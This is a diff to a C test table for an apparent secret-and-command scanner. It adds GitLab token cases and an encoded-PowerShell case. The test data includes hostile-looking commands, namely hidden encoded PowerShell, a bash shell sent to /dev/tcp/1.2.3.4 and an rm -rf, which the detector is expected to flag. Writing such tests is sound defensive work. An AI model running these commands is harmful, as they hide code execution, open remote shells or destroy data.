@@ -212,6 +212,15 @@ static const struct row {
      "glpat-"
      "xxxxxxxxxxxxxxxxxxxx",
      NOTHING, ""},
+    {"GitLab behind a placeholder", GK_HIT_SECRET,
+     "glpat-"
+     "xxxxxxxxxxxxxxxxxxxx glpat-" DRAWN_20,
+     WARNING, "GitLab token glpa…, 26 characters"},
+    {"GitLab behind a long run of none", GK_HIT_SECRET,
+     "glpat-"
+     "xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx"
+     "glpat-" DRAWN_20,
+     WARNING, "GitLab token glpa…, 26 characters"},
     {"GitLab too short", GK_HIT_SECRET,
      "glpat-"
      "q7Zt0X9kY2",
@@ -358,6 +367,9 @@ static const struct row {
     {"some files", GK_HIT_COMMAND, "rm -rf /var/tmp/x", NOTHING, ""},
     {"powershell", GK_HIT_COMMAND, "PowerShell.exe -nop -w hidden -Enc SQBF",
      WARNING, "\"powershell -enc\" runs a hidden text"},
+    {"powershell twice", GK_HIT_COMMAND,
+     "powershell.exe -Version\npowershell -e SQBF", WARNING,
+     "\"powershell -enc\" runs a hidden text"},
     {"powershell alone", GK_HIT_COMMAND, "powershell.exe -Version", NOTHING,
      ""},
     {"socket of a shell", GK_HIT_COMMAND, "bash >/dev/tcp/1.2.3.4/9", WARNING,
